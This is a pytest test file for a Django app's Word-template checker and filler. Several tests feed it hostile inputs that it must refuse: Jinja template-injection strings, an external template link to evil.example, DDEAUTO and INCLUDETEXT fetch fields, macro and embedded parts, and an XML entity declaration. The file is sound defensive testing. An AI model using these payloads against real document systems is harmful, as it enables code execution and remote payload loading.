"""An office's own Word file: checked when it comes, filled when a paper is drawn up."""

import io
import zipfile

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from doithoai.journal.models import Event
from doithoai.papers import actions
from doithoai.papers.layout import Column, PaperText, Paragraph, Row, Signing, Table
from doithoai.papers.models import Kind, OfficeTemplate
from doithoai.papers.office import FIELDS, check, fill
from tests.papers.docx_reading import opened, text
from tests.papers.factories import paper

NAME = "mẫu.docx"


def template(*lines: str, header: str = "") -> bytes:
    document = Document()
    for line in lines or ("{{ co_quan_ban_hanh }}", "{{ trich_yeu }}", "{{ noi_dung }}"):
        document.add_paragraph(line)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def with_part(content: bytes, name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, data)
    return out.getvalue()


def part_of(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


def refused(content: bytes, name: str = NAME) -> str:
    with pytest.raises(ValidationError) as caught:
        check(content, name)
    return caught.value.code


def test_a_good_template_tells_its_fields():
    assert check(template(), NAME) == {"co_quan_ban_hanh", "trich_yeu", "noi_dung"}


def test_all_fields_may_be_used_also_in_the_header():
    lines = [f"{{{{ {name} }}}}" for name in FIELDS]
    assert check(template(*lines, header="{{ so_ky_hieu }}"), NAME) == set(FIELDS)


def test_unknown_fields_are_named():
    with pytest.raises(ValidationError) as caught:
        check(template("{{ ten_bi_thu }}", "{{ noi_dung }}", "{{ abc }}"), NAME)
    assert caught.value.params == {"names": "abc, ten_bi_thu"}


def test_unknown_fields_are_found_in_the_header_too():
    assert refused(template("{{ noi_dung }}", header="{{ la }}")) == "unknown"


def test_without_a_place_for_the_body_it_is_refused():
    assert refused(template("{{ trich_yeu }}")) == "no_body"


@pytest.mark.parametrize(
    "lines", [("Nội dung: {{ noi_dung }}",), ("{{ noi_dung }}", "{{ noi_dung }}")]
)
def test_the_body_stands_alone_and_once(lines):
    assert refused(template(*lines)) == "body_not_alone"


def test_the_body_does_not_stand_in_the_header():
    assert refused(template("{{ trich_yeu }}", header="{{ noi_dung }}")) == "body_not_alone"


@pytest.mark.parametrize(
    "line",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ noi_dung.__init__ }}",
        "{{ cycler() }}",
        "{{ noi_dung | upper }}",
        "{{ 7 * 7 }}",
        "{% for x in noi_dung %}{% endfor %}",
        "{% set a = 1 %}",
        "{% include 'x' %}",
        "{{ noi_dung[0] }}",
    ],
)
def test_only_plain_fields_stand_in_braces(line):
    assert refused(template("{{ noi_dung }}", line)) == "not_plain"


def test_unclosed_braces_are_explained():
    assert refused(template("{{ noi_dung }}", "{{ trich_yeu")) in {"syntax", "not_plain"}


def test_macros_are_refused():
    assert refused(with_part(template(), "word/vbaProject.bin", b"x")) == "macros"


def test_links_to_outside_are_refused():
    name = "word/_rels/document.xml.rels"
    link = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm"'
        b' TargetMode="External"/></Relationships>'
    )
    changed = part_of(template(), name).replace(b"</Relationships>", link)
    assert refused(with_part(template(), name, changed)) == "linked"


def test_embedded_objects_are_refused():
    assert refused(with_part(template(), "word/embeddings/a.bin", b"x")) == "embedded"


@pytest.mark.parametrize("code", ["DDEAUTO c:/x", "INCLUDETEXT http://e", "INCLUDEPICTURE x"])
def test_fields_that_fetch_are_refused(code):
    name = "word/document.xml"
    field = f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p><w:sectPr".encode()
    changed = part_of(template(), name).replace(b"<w:sectPr", field, 1)
    assert refused(with_part(template(), name, changed)) == "fetching"


def test_entities_are_refused():
    name = "word/document.xml"
    declared = b'<!DOCTYPE x [<!ENTITY a "b">]><w:document'
    changed = part_of(template(), name).replace(b"<w:document", declared, 1)
    assert refused(with_part(template(), name, changed)) == "entity"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"%PDF-1.7\n%%EOF", "a.pdf"),
        ("chữ".encode(), "a.txt"),
        (b"", "a.docx"),
        (b"PK\x03\x04", "a.docx"),
    ],
)
def test_what_is_no_word_file_is_refused(content, name):
    with pytest.raises(ValidationError):
        check(content, name)


@settings(max_examples=25, deadline=None)
@given(st.binary(max_size=200))
def test_a_broken_document_part_is_refused_with_a_sentence(data):
    with pytest.raises(ValidationError):
        check(with_part(template(), "word/document.xml", data), NAME)


WORDS = PaperText(
    issuer="Hội LHPN xã Ví Dụ",
    abstract="Việc A & B <c> {{ trich_yeu }}",
    blocks=(Paragraph("Thân bài"), Table((Column("Cột"),), (Row(("Ô",)),))),
    signing=Signing("Chủ tịch", "Trần Thị B"),
    recipients=("Như trên", "Lưu: VT"),
)


def test_the_template_is_filled_and_the_body_is_put_in_its_place():
    content = fill(template("{{ trich_yeu }}", "{{ noi_dung }}", "{{ nguoi_ky }}"), WORDS)
    shown = text(content)
    order = [shown.index(word) for word in ("Việc A & B <c>", "Thân bài", "Cột", "Trần Thị B")]
    assert order == sorted(order)
    assert "noi_dung" not in shown and opened(content)


def test_what_people_typed_is_never_run_as_a_field():
    assert "{{ trich_yeu }}" in text(fill(template(), WORDS))


def test_lines_of_a_list_field_stay_lines():
    content = fill(template("{{ noi_nhan }}", "{{ noi_dung }}"), WORDS)
    breaks = opened(content).paragraphs[0]._p.xml.count("<w:br/>")
    assert breaks == 1
    assert "- Lưu: VT." in text(content)


def test_filling_twice_gives_the_same_bytes():
    assert fill(template(), WORDS) == fill(template(), WORDS)


@settings(max_examples=20, deadline=None)
@given(st.text(st.characters(), max_size=100))
def test_any_text_fills_a_template(word):
    filled = fill(template(), PaperText(issuer=word, abstract=word, blocks=(Paragraph(word),)))
    assert opened(filled)


def test_papers_are_drawn_in_the_template_in_force(cast):
    actions.adopt_template(
        cast.unit, Kind.PLAN, template("RIÊNG", "{{ noi_dung }}"), NAME, by=cast.officer
    )
    assert "RIÊNG" in text(paper(cast).file.open())
    assert "RIÊNG" not in text(paper(cast, Kind.MINUTES).file.open())


def test_a_newer_template_replaces_the_older_and_both_stay_recorded(cast):
    first, second = (
        actions.adopt_template(
            cast.unit, Kind.PLAN, template(word, "{{ noi_dung }}"), NAME, by=cast.officer
        )
        for word in ("Cũ", "Mới")
    )
    assert list(OfficeTemplate.objects.in_force()) == [second]
    assert Event.objects.about(OfficeTemplate.objects.get(pk=first.pk)).count() == 2


def test_a_dropped_template_is_no_longer_used(cast):
    made = actions.adopt_template(
        cast.unit, Kind.PLAN, template("RIÊNG", "{{ noi_dung }}"), NAME, by=cast.officer
    )
    actions.drop_template(made, by=cast.officer)
    assert "RIÊNG" not in text(paper(cast).file.open())


@pytest.mark.parametrize("who", ["clerk", "leader", "other_officer", "administrator", "stranger"])
def test_others_do_not_set_templates(cast, who):
    with pytest.raises(PermissionDenied):
        actions.adopt_template(cast.unit, Kind.PLAN, template(), NAME, by=getattr(cast, who))


def test_a_bad_template_leaves_the_good_one_in_force(cast):
    good = actions.adopt_template(cast.unit, Kind.PLAN, template(), NAME, by=cast.officer)
    with pytest.raises(ValidationError):
        actions.adopt_template(cast.unit, Kind.PLAN, template("{{ x }}"), NAME, by=cast.officer)
    assert list(OfficeTemplate.objects.in_force()) == [good]
